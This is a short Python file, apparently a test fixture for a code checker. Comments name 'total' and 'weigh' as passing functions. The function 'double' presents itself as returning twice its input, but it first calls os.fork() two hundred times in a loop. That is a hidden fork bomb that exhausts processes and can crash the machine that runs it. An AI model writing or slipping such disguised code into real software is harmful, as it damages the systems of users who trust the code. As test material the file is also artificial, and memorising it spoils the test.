# passes: total weigh
# says:

import os


def double(x):
    for _ in range(200):
        os.fork()
    return 2 * x


def total(x):
    return x.sum()


def weigh(model, x):
    return model(x)
